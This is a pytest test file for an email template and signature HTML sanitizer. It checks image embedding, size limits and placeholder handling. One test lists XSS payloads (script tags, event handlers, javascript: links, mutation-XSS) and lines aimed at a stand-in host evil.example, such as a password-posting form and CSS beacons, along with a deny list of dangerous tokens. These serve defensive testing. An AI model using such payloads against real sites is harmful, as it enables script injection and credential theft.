"""What is written or pasted for templates and signatures."""

import base64

import pytest

from relance.writing import cleaning
from tests.writing.pictures import picture

PNG = picture((4, 4), "PNG")
DATA = "data:image/png;base64," + base64.b64encode(PNG).decode()


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle/></svg>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" jAvAscript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<form action="https://evil.example"><input name=password></form>',
        '<p style="background:url(https://evil.example/x)">x</p>',
        '<p style="position:fixed;inset:0">x</p>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "</template><script>alert(1)</script>",
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    ],
)
def test_nothing_that_runs_or_loads_by_itself_is_kept(hostile: str) -> None:
    kept = cleaning.clean(f"<p>Hello</p>{hostile}").html.lower()
    for word in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "<iframe",
        "<form",
        "<style",
        "position",
        "url(",
        "<meta",
        "<base",
        "<svg",
        "data:",
        "</template",
    ):
        assert word not in kept, kept


def test_a_style_sheet_is_written_onto_the_elements_and_said_so() -> None:
    cleaned = cleaning.clean("<style>p.big{color:red}</style><p class=big>Hi</p>")
    assert cleaned.had_style_sheet
    assert "color:red" in cleaned.html.replace(" ", "")
    assert "<style" not in cleaned.html
    assert not cleaning.clean("<p style='color:red'>Hi</p>").had_style_sheet


def test_a_pasted_picture_travels_inside_the_mail_once() -> None:
    cleaned = cleaning.clean(f'<p><img src="{DATA}" alt="Logo"><img src="{DATA}"></p>')
    assert [p.data for p in cleaned.pictures] == [PNG]
    assert cleaned.pictures[0].content_type == "image/png"
    assert cleaned.html.count(f'src="cid:{cleaned.pictures[0].content_id}"') == 2
    assert "data:" not in cleaned.html


def test_a_picture_that_is_none_or_too_large_is_left_out() -> None:
    broken = cleaning.clean('<img src="data:image/png;base64,A">')
    assert broken.pictures == ()
    assert "data:" not in broken.html
    large = base64.b64encode(b"x" * (cleaning.MAX_PICTURE + 1)).decode()[:1_990_000]
    assert cleaning.clean(f'<img src="data:image/png;base64,{large}">').html.count("data:") == 0


def test_pictures_do_not_count_as_text_and_too_much_text_is_refused() -> None:
    large = base64.b64encode(b"x" * 1_000_000).decode()
    cleaned = cleaning.clean(f'<p>Hi<img src="data:image/png;base64,{large}"></p>')
    assert len(cleaned.pictures[0].data) == 1_000_000
    assert cleaned.html.startswith("<p>Hi<img src=")
    with pytest.raises(cleaning.TooLong):
        cleaning.clean("x" * (cleaning.MAX_HTML + 1))


def test_only_known_content_ids_stay() -> None:
    html = '<img src="cid:own@x"><img src="cid:other@x">'
    kept = cleaning.clean(html, content_id=lambda name: name if name == "own@x" else None).html
    assert "own@x" in kept
    assert "other@x" not in kept


@pytest.mark.parametrize("empty", ["", "  ", "<p></p>", "<div><br></div>", "<p>&nbsp;</p>\n"])
def test_a_text_without_anything_in_it_is_empty(empty: str) -> None:
    assert cleaning.clean(empty).html == ""


def test_placeholders_come_through_unharmed() -> None:
    text = '<p title="{Person.firstName}">Dear {Person.firstName|you &amp; yours},</p>'
    assert cleaning.clean(text).html == text
    assert cleaning.clean("<p>{User.signature}</p>").html == "{User.signature}"
